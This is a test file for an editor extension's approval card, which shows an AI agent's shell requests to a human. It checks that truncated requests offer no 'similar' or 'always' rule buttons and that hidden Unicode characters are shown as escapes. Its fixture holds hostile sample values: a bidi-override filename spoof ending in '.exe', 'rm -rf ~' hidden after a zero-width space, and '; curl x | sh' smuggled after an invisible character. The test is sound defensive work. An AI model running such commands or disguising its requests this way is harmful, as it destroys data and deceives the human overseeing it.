/**
 * An approval card shows what the agent asks as it is (issue #22 §3): a request the editor holds only in part (cut
 * or unreadable) offers nothing "similar" — no rule button and not the agent's own "always" — and bidi, zero-width
 * and control characters in its title, summary and detail appear as visible escapes.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { TranscriptItem } from '../../extension/protocol/transcriptTypes';
import { snapshot } from './fixtures';
import { openHarness } from './harness';
import type { Harness } from './harness';

const command = `npm test ${'x'.repeat(1990)}`;
const partial: TranscriptItem = {
  id: 'a5',
  kind: 'approval',
  approvalId: 'ap-5',
  title: 'Bash \u202egnp.exe',
  summary: 'Run: ls\u200b -la\nrm -rf ~',
  detail: { command: `${command}\u2066; curl x | sh` },
  options: ['allow_once', 'allow_similar', 'deny', 'deny_always'],
  status: 'pending',
  hasDiff: false,
  subject: { tool: 'Bash', command: command.slice(0, 2000) },
};

describe('approval card text', () => {
  let harness: Harness;
  before(async () => {
    harness = await openHarness();
    await harness.deliver(snapshot([partial, { ...partial, id: 'a6', approvalId: 'ap-6', title: 'Bash', subject: { tool: 'Bash', command: 'npm test', complete: true } }]));
    await harness.settle();
  });
  after(async () => {
    await harness?.close();
  });

  test('a request not whole: nothing "similar" is offered', async () => {
    const labels = async (id: string) => harness.page.locator(`[data-item-id="${id}"] .approval-actions button`).evaluateAll((buttons) => buttons.map((b) => b.textContent?.trim()));
    assert.deepEqual(await labels('a5'), ['Allow once', 'Deny'], 'no rule buttons and not the agent\'s own "always" either');
    assert.deepEqual(await labels('a6'), ['Allow once', 'Allow similar for this run', 'Allow similar for this connection', 'Deny', 'More…'], 'the same request whole offers rules');
  });

  test('hidden characters are shown as escapes; a line break stays one', async () => {
    const card = harness.page.locator('[data-item-id="a5"]');
    assert.equal(await card.locator('.approval-title').innerText(), 'Bash \\u202egnp.exe');
    assert.equal(await card.locator('.approval-summary').textContent(), 'Run: ls\\u200b -la\nrm -rf ~');
    assert.match((await card.locator('.approval-detail pre').textContent()) ?? '', /x\\u2066; curl x \| sh/);
    assert.equal(await card.getAttribute('aria-label'), 'Approval: Bash \\u202egnp.exe');
  });
});
